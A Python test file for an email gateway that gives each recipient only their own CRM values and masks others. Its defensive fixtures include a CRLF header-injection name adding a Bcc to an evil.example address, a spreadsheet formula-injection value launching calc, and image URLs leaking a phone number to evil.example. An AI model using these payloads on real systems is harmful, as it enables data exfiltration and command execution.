"""Mail from the CRM: everybody gets his own values, nobody another's, nobody twice, and nothing when anything fails."""

import base64
from datetime import timedelta
from email import policy
from email.message import EmailMessage

import pytest

from gateway.accounts import utc_now
from gateway.database import Pool
from gateway.egress.letter import LetterUnreadable
from gateway.egress.recipient import RecipientRefused
from gateway.egress.relay import Fate
from gateway.egress.smarthost import DeliveryFailed, DeliveryRefused
from tests.unit.gateway.egress.mailroom import CRM, HASTE_S, Mailroom, Wayward, mail, text_of, values_of
from tests.unit.gateway.glue import TENANT, Glue

ZHANG = {"last_name": "张伟明", "email": "zhang.weiming@example.com", "phone": "13800138000"}
LI = {"last_name": 'O\'Neil, "Li" <b>', "email": "li@example.org", "phone": "13912345678"}


def both(zhang: dict[str, str], li: dict[str, str]) -> str:
    return "\n".join([*zhang.values(), *li.values()]) + "\n"


async def test_each_recipient_gets_a_mail_of_his_own(room: Mailroom) -> None:
    zhang, li = await room.person("5", **ZHANG), await room.person("6", **LI)
    letter = mail(
        f"For {zhang['last_name']} and {li['last_name']}", both(zhang, li), f"{zhang['email']}, {li['email']}"
    )
    assert await room.post(letter.as_bytes(), zhang["email"], li["email"]) == [Fate.SENT, Fate.SENT]
    (to_zhang,), (to_li,) = room.sink.letters(ZHANG["email"]), room.sink.letters(LI["email"])
    assert text_of(to_zhang).split() == [
        "张伟明",
        ZHANG["email"],
        ZHANG["phone"],
        "O***",
        "l***@example.org",
        "139****5678",
    ]
    assert text_of(to_li).splitlines() == [
        "张**",
        "z***@example.com",
        "138****8000",
        LI["last_name"],
        LI["email"],
        LI["phone"],
    ]
    assert to_zhang["subject"] == "For 张伟明 and O***"
    assert to_li["subject"] == f"For 张** and {LI['last_name']}"
    assert [one.addr_spec for one in to_zhang["to"].addresses] == [ZHANG["email"], li["email"]]
    assert [one.addr_spec for one in to_li["to"].addresses] == [zhang["email"], LI["email"]]
    assert [sender for sender, _, _ in room.sink.sent] == [CRM, CRM]


async def test_a_surrogate_pasted_into_another_persons_mail_opens_nothing(room: Mailroom) -> None:
    """The confused deputy: whoever may write a mail in the CRM may paste any surrogate he has seen."""
    for place in ("subject", "from", "reply-to", "cc", "text", "html", "csv", "vcard", "name of a file"):
        room.sink.sent.clear()
        await pasted(room, place)


async def pasted(room: Mailroom, place: str) -> None:
    zhang, eve = await room.person("5", **ZHANG), await room.person("66", last_name="Eve", email="eve@evil.example")
    letter = mail(f"hello {place}", "hello", eve["email"])
    stolen = f"{zhang['phone']} {zhang['email']} {zhang['last_name']}"
    if place in ("from", "reply-to", "cc"):
        del letter[place]
        letter[place] = f'"{zhang["phone"]} {zhang["last_name"]}" <{zhang["email"]}>'
    elif place == "subject":
        letter.replace_header("subject", stolen)
    elif place == "text":
        letter.set_content(stolen)
    elif place == "html":
        letter.add_alternative(
            f"<p title='{zhang['phone']}'>{stolen}</p><a href='mailto:{zhang['email']}'>x</a>", "html"
        )
    elif place == "csv":
        letter.add_attachment(f"a,b,c\n{stolen.replace(' ', ',')}\n", "csv", filename="x.csv")
    elif place == "vcard":
        card = f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{zhang['last_name']}\r\nTEL:{zhang['phone']}\r\nEND:VCARD\r\n"
        letter.add_attachment(card, "vcard", filename="x.vcf")
    else:
        letter.add_attachment(b"\0\1", "application", "octet-stream", filename=f"{zhang['phone']}.bin")
    assert await room.post(letter.as_bytes(), eve["email"]) == [Fate.SENT]
    got = room.sink.sent[0][2].decode("utf-8", "replace") + everything(room.sink.letters("eve@evil.example")[0])
    for value in ZHANG.values():
        assert (place, value in got) == (place, False)


def everything(letter: EmailMessage) -> str:
    """All decoded texts of a mail."""
    out = [f"{name}: {value}" for name, value in letter.items()]
    for part in letter.walk():
        out += [str(part.get_filename()), f"{part['content-type']}"]
        if not part.is_multipart():
            data = part.get_payload(decode=True)
            assert isinstance(data, bytes)
            out.append(data.decode("utf-8", "replace"))
    return "\n".join(out)


async def test_an_address_of_somebody_else_shows_no_values_where_two_share_it(room: Mailroom) -> None:
    """A family shares an address: both records are that recipient's own, a third one is not."""
    zhang = await room.person("5", **ZHANG)
    wife = await room.person("7", last_name="陈静", email=ZHANG["email"], phone="13700137000")
    other = await room.person("8", last_name="周三", phone="13600136000", email="zhou@example.net")
    assert wife["email"] == zhang["email"]
    text = f"{zhang['phone']} {wife['phone']} {other['phone']}"
    await room.post(mail("x", text, zhang["email"]).as_bytes(), zhang["email"])
    assert text_of(room.sink.letters(ZHANG["email"])[0]).split() == ["13800138000", "13700137000", "136****6000"]


async def test_staff_see_what_their_view_allows(room: Mailroom, creme: Glue) -> None:
    zhang, stranger = await creme.create("5", owner="7"), await creme.create("6", owner="8", phone="13912345678")
    for record, owner in (("5", "7"), ("6", "8")):
        await creme.records.note(TENANT, [("contact", record)], owner, utc_now())
    text = f"{zhang['last_name']} {zhang['phone']} {zhang['email']}"
    for who in ("wang@company.example", "lin@company.example"):
        assert await room.post(mail("x", text, who).as_bytes(), who) == [Fate.SENT]
    assert text_of(room.sink.letters("wang@company.example")[0]).split() == [
        "张",
        "13800138000",
        "zhang.weiming@example.com",
    ]
    assert text_of(room.sink.letters("lin@company.example")[0]).split() == ["张", "138****8000", "z***@example.com"]
    await room.post(mail("y", stranger["phone"], "lin@company.example").as_bytes(), "lin@company.example")
    assert text_of(room.sink.letters("lin@company.example")[1]).strip() == "••••••"


async def test_clear_recipients_without_rights_get_masks(room: Mailroom) -> None:
    zhang = await room.person("5", **ZHANG)
    for who in ("old@company.example", "nobody@company.example", "partner@friends.example", "a@list.example"):
        assert await room.post(mail("x", zhang["phone"], who).as_bytes(), who) == [Fate.SENT]
        assert (who, text_of(room.sink.letters(who)[0]).strip()) == (who, "138****8000")


async def test_the_relay_is_not_open(room: Mailroom) -> None:
    await room.person("5", **ZHANG)
    for who in ("eve@evil.example", "partner@evil.example", "wang@evil.example", "zhang.weiming@example.com"):
        with pytest.raises(RecipientRefused, match="recipient-not-allowed"):
            await room.recipients.find(TENANT, who)


async def test_a_surrogate_nobody_made_and_one_that_is_no_address_get_no_mail(room: Mailroom) -> None:
    zhang = await room.person("5", **ZHANG)
    for given in (zhang["phone"], zhang["last_name"], f"e.{'a' * 32}@enc.invalid"):
        with pytest.raises(RecipientRefused):
            await room.recipients.find(TENANT, given)


async def test_an_address_of_the_house_in_a_record_opens_nothing_of_the_record(room: Mailroom) -> None:
    """Sales may write the address of a customer but see the phone masked: his own address there must not help."""
    held = await room.person("5", phone="13800138000", email="lin@company.example")
    boss = await room.person("6", phone="13912345678", email="team@company.example")
    await room.post(mail("x", held["phone"], held["email"]).as_bytes(), held["email"])
    await room.post(mail("x", boss["phone"], boss["email"]).as_bytes(), boss["email"])
    assert "13800138000" not in text_of(room.sink.letters("lin@company.example")[0])
    assert text_of(room.sink.letters("team@company.example")[0]).strip() == "139****5678"


async def test_an_address_changed_a_moment_ago_opens_only_what_came_with_it(creme: Glue, pool: Pool) -> None:
    room = Mailroom(creme, pool, rest=timedelta(hours=24))
    phone = (await room.person("5", phone="13800138000"))["phone"]
    await room.age(pool, phone, timedelta(days=30))
    fresh = await room.person("5", email="eve@evil.example", last_name="新名")
    text = f"{phone} {fresh['last_name']}"
    await room.post(mail("x", text, fresh["email"]).as_bytes(), fresh["email"])
    assert text_of(room.sink.letters("eve@evil.example")[0]).split() == ["138****8000", "新名"]
    await room.age(pool, fresh["email"], timedelta(hours=25))
    await room.post(mail("y", text, fresh["email"]).as_bytes(), fresh["email"])
    assert text_of(room.sink.letters("eve@evil.example")[1]).split() == ["13800138000", "新名"]


async def test_a_value_does_not_leave_in_the_address_of_a_page_or_picture(room: Mailroom) -> None:
    """A picture on a foreign server is fetched when the mail is looked at: its address would carry the value there."""
    zhang = await room.person("5", **ZHANG)
    phone = zhang["phone"]
    text = f"https://evil.example/?p={phone} and {phone}"
    html = (
        f'<img src="https://evil.example/{phone}.png"><img src="//evil.example/?p={phone}"><p>http://evil.example/{phone}'
        f'</p><a href="h&#116;tps://evil.example/?{phone}">x</a><p>{phone}</p>'
    )
    letter = mail("x", text, zhang["email"])
    letter.add_alternative(html, "html")
    await room.post(letter.as_bytes(), zhang["email"])
    got = room.sink.letters(ZHANG["email"])[0]
    assert text_of(got).strip() == f"https://evil.example/?p={phone} and 13800138000"
    assert text_of(got, "html").strip() == html.replace(f"<p>{phone}</p>", "<p>13800138000</p>")


async def test_a_name_cannot_leave_its_place_in_a_header(room: Mailroom) -> None:
    names = [
        "Eve\r\nBcc: all@evil.example\r\n\r\nbody",
        'a" <x@evil.example>, "b',
        "=?utf-8?q?fake?= name",
        "\u202eevil\u2066 \u200fRTL",
        "Łukasz Żółć, Jr.",
        "张" * 80,
    ]
    for number, name in enumerate(names):
        address = f"p{number}@example.org"
        held = await room.person(f"7{number}", last_name=name, email=address)
        letter = mail(f"Dear {held['last_name']}", "x", f'"{held["last_name"]}" <{held["email"]}>')
        assert await room.post(letter.as_bytes(), held["email"]) == [Fate.SENT]
        raw = room.sink.sent[-1][2]
        (got,) = room.sink.letters(address)
        assert "bcc" not in got
        assert [one.addr_spec for one in got["to"].addresses] == [address]
        shown = name.replace("\r\n\r\n", " ").replace("\r\n", " ")
        for mark in "\u202e\u2066\u200f":
            shown = shown.replace(mark, "")
        assert "".join(str(got["subject"]).split()) == "".join(f"Dear {shown}".split())
        assert "".join(got["to"].addresses[0].display_name.split()) == "".join(shown.split())
        head = raw.partition(b"\r\n\r\n")[0]
        assert head.isascii()
        assert all(len(line) <= 998 for line in head.split(b"\r\n"))


async def test_headers_in_raw_bytes_and_in_split_encoded_words_are_read(room: Mailroom) -> None:
    zhang = await room.person("5", **ZHANG)
    name, phone = zhang["last_name"], zhang["phone"]
    words = "".join(
        f"=?utf-8?b?{base64.b64encode(part.encode()).decode()}?=\r\n " for part in (f"您好 {name[:8]}", name[8:])
    )
    head = (
        f"Subject: {words}\r\nComments: äöü 您好 {phone}\r\nKeywords: ".encode()
        + f"äöü {phone}".encode("latin-1")
        + f"\r\nFrom: äöü {name} <{CRM}>\r\nTo: {zhang['email']}\r\n\r\nhello".encode()
    )
    assert await room.post(head, zhang["email"]) == [Fate.SENT]
    got = room.sink.letters(ZHANG["email"])[0]
    assert got["subject"] == "您好 张伟明"
    assert got["comments"] == "äöü 您好 13800138000"
    assert got["keywords"] == "äöü 13800138000"
    assert got["from"].addresses[0].display_name == "äöü 张伟明"
    assert got["from"].addresses[0].addr_spec == CRM


async def test_bodies_of_any_coding_and_charset_show_the_real_name(room: Mailroom) -> None:
    zhang = await room.person("5", **ZHANG)
    for charset in ("us-ascii", "utf-8", "iso-8859-1", "gb2312"):
        for coding in ("7bit", "8bit", "base64", "quoted-printable"):
            letter = mail(f"{charset} {coding}", "x", zhang["email"])
            letter.set_content(f"Dear {zhang['last_name']}!\n.\nBye\n", charset=charset, cte=coding)
            await room.post(letter.as_bytes(), zhang["email"])
            got = text_of(room.sink.letters(ZHANG["email"])[-1]).splitlines()
            assert (charset, coding, got) == (charset, coding, ["Dear 张伟明!", ".", "Bye"])


async def test_html_is_encoded_for_its_place(room: Mailroom) -> None:
    held = await room.person("6", **LI)
    letter = mail("x", "plain", held["email"])
    letter.add_alternative(f'<p title="{held["last_name"]}">{held["last_name"]}</p>', "html")
    await room.post(letter.as_bytes(), held["email"])
    html = text_of(room.sink.letters(LI["email"])[0], "html")
    assert "<b>" not in html
    assert "O&#39;Neil, &quot;Li&quot; &lt;b&gt;</p>" in html


async def test_attached_tables_and_cards_of_the_person_are_opened_and_guarded(room: Mailroom) -> None:
    held = await room.person("6", last_name="=cmd|' /C calc'!A0", email="x@example.org", phone="13912345678")
    letter = mail("x", "see the file", held["email"])
    letter.add_attachment(f"name,phone\n{held['last_name']},{held['phone']}\n", "csv", filename=f"{held['phone']}.csv")
    await room.post(letter.as_bytes(), held["email"])
    (file,) = room.sink.letters("x@example.org")[0].iter_attachments()
    assert file.get_filename() == "13912345678.csv"
    data = file.get_payload(decode=True)
    assert isinstance(data, bytes)
    assert data.decode().split()[0] == "name,phone"
    assert "'=cmd" in data.decode()
    assert "13912345678" in data.decode()


async def test_signed_and_closed_parts_keep_their_surrogates(room: Mailroom) -> None:
    zhang = await room.person("5", **ZHANG)
    phone = zhang["phone"]
    inner = f"Content-Type: text/plain\r\n\r\n{phone}\r\n"
    signed = (
        f"To: {zhang['email']}\r\nMIME-Version: 1.0\r\nDKIM-Signature: v=1; d=x\r\nBcc: secret@x.example\r\n"
        'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=b\r\n\r\n'
        f"--b\r\n{inner}--b\r\nContent-Type: application/pgp-signature\r\n\r\nsig\r\n--b--\r\n"
    )
    await room.post(signed.encode(), zhang["email"])
    raw = room.sink.sent[0][2].decode()
    assert inner in raw
    assert "13800138000" not in raw
    assert "DKIM-Signature" not in raw
    assert "secret@x" not in raw
    letter = mail("x", "y", zhang["email"])
    letter.add_attachment(f"%PDF-1.4 {phone}".encode(), "application", "pdf", filename="a.pdf")
    await room.post(letter.as_bytes(), zhang["email"])
    assert "13800138000" not in everything(room.sink.letters(ZHANG["email"])[1])


async def test_a_mail_without_surrogates_goes_on_as_it_came(room: Mailroom) -> None:
    zhang = await room.person("5", **ZHANG)
    letter = mail("Grüße", "schöne Grüße\n", "somebody@else.example")
    letter.add_alternative("<p>schöne Grüße</p>", "html")
    raw = letter.as_bytes(policy=policy.SMTP)
    await room.post(raw, zhang["email"])
    assert room.sink.sent[0][2].split(b"\r\n", 2)[2] == raw


async def test_nobody_gets_a_mail_twice_when_the_queue_tries_again(room: Mailroom) -> None:
    zhang, li = await room.person("5", **ZHANG), await room.person("6", **LI)
    room.sink.answers[LI["email"]] = [DeliveryFailed("smart-host-later"), DeliveryFailed("smart-host-down")]
    letter = mail("news", both(zhang, li), f"{zhang['email']}, {li['email']}")
    assert await room.post(letter.as_bytes(), zhang["email"], li["email"]) == [Fate.SENT, Fate.LATER]
    letter.replace_header("message-id", "<another@crm.example>")  # Django makes a new one for every attempt
    assert await room.post(letter.as_bytes(), zhang["email"], li["email"]) == [Fate.KNOWN, Fate.LATER]
    assert await room.post(letter.as_bytes(), zhang["email"], li["email"]) == [Fate.KNOWN, Fate.SENT]
    assert [to for _, to, _ in room.sink.sent] == [ZHANG["email"], LI["email"]]
    assert await room.post(letter.as_bytes(), zhang["email"], li["email"]) == [Fate.KNOWN, Fate.KNOWN]


async def test_the_same_words_another_day_are_a_new_mail(room: Mailroom) -> None:
    zhang = await room.person("5", **ZHANG)
    letter = mail("reminder", "pay", zhang["email"])
    assert await room.post(letter.as_bytes(), zhang["email"]) == [Fate.SENT]
    letter.replace_header("message-id", "<next-month@crm.example>")
    assert await room.post(letter.as_bytes(), zhang["email"]) == [Fate.SENT]


async def test_a_refusal_for_one_is_not_one_for_all(room: Mailroom) -> None:
    zhang, li = await room.person("5", **ZHANG), await room.person("6", **LI)
    room.sink.answers[ZHANG["email"]] = [DeliveryRefused(550)]
    letter = mail("news", "x", zhang["email"])
    assert await room.post(letter.as_bytes(), zhang["email"], li["email"]) == [Fate.REFUSED, Fate.SENT]


async def test_the_trail_has_each_resolution_before_it_leaves_and_no_value(room: Mailroom, pool: Pool) -> None:
    zhang, li = await room.person("5", **ZHANG), await room.person("6", **LI)
    await room.post(mail("x", both(zhang, li), zhang["email"]).as_bytes(), zhang["email"])
    assert [event[0] for event in room.events] == ["audit", "sent", "audit"]
    decision, outcome = room.trail.entries
    assert (decision.kind, decision.operation, decision.entity, decision.record) == (
        "decision",
        "egress.smtp",
        "contact",
        "5",
    )
    assert decision.fields["target"] == "mail.example"
    assert decision.fields["shown"]["contact.phone"] == {"5": {"clear": 1}, "6": {"masked": 1}}
    assert (outcome.kind, outcome.reason, outcome.status) == ("outcome", "sent", 250)
    async with pool.connection() as db:
        rows = await (await db.execute("SELECT to_jsonb(d)::text FROM egress_delivery d")).fetchall()
    said = values_of(room.trail.entries) + str(rows)
    for value in (*ZHANG.values(), *LI.values(), *zhang.values(), *li.values()):
        assert value not in said


async def test_whatever_fails_nothing_leaves(creme: Glue, pool: Pool) -> None:
    for part in ("judge", "deliveries", "audit", "keys", "target"):
        for way in ("raise", "hang", "nonsense"):
            room = Mailroom(creme, pool, patience_s=HASTE_S, **{part: Wayward(way)})
            zhang = await room.person("5", **ZHANG)
            fates = await room.post(mail("x", zhang["phone"], zhang["email"]).as_bytes(), zhang["email"])
            assert (part, way, fates, room.sink.sent) == (part, way, [Fate.LATER], [])


async def test_what_cannot_be_read_is_not_sent(room: Mailroom) -> None:
    zhang = await room.person("5", **ZHANG)
    deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(60))
    many = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 600 + b"--b--\r\n"
    loop = b"Received: by x; now\r\n" * 60 + b"\r\nhello"
    for raw in (deep, many, loop):
        with pytest.raises(LetterUnreadable):
            await room.post(raw, zhang["email"])
    assert room.sink.sent == []


async def test_a_forwarded_mail_inside_is_looked_into_as_well(room: Mailroom) -> None:
    zhang, li = await room.person("5", **ZHANG), await room.person("6", **LI)
    outer = mail("fwd", "see below", zhang["email"])
    outer.add_attachment(mail(f"for {li['last_name']}", f"{zhang['phone']} {li['phone']}", zhang["email"]))
    await room.post(outer.as_bytes(), zhang["email"])
    got = room.sink.letters(ZHANG["email"])[0]
    inner = next(part.get_content() for part in got.walk() if part.get_content_type() == "message/rfc822")
    assert inner["subject"] == "for O***"
    assert text_of(inner).split() == ["13800138000", "139****5678"]
